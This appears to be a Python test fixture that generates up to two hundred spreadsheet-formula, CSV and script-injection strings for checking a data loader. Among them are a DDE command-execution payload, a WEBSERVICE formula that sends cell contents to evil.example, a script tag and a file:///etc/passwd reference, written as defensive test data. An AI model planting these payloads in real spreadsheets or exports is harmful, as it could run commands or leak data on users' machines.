"""Two hundred texts that a spreadsheet, a browser or a parser could take for more than text."""

from itertools import islice, product

from app.loading.text_checks import strange_character

_BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "'",
    "''",
    "{=",
    '"=',
    " =",
    "\t=",
    "\n=",
    ";=",
    "=-",
    "|",
    "%",
    "#",
)
_PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","click")',
    'WEBSERVICE("http://evil.example/?"&A1)',
    "http://evil.example/",
    "<script>alert(1)</script>",
    'a,b";\'c\n"d"',
    "_x0041_ ]]> &amp; <!--",
    "internal:Sheet1!A1",
    "2400}",
)
_ALONE = (
    "http://evil.example",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "external:book.xlsx",
    "{=1+1}",
    "_x000D_",
    "1E5",
    "=",
)


def hostile_texts() -> tuple[str, ...]:
    """All of them pass the loader's own look at characters, so that any of them might stand in the data."""
    made = (*_ALONE, *(a + b for a, b in product(_BEGINNINGS, _PAYLOADS)))
    return tuple(islice((text for text in dict.fromkeys(made) if strange_character(text) is None), 200))
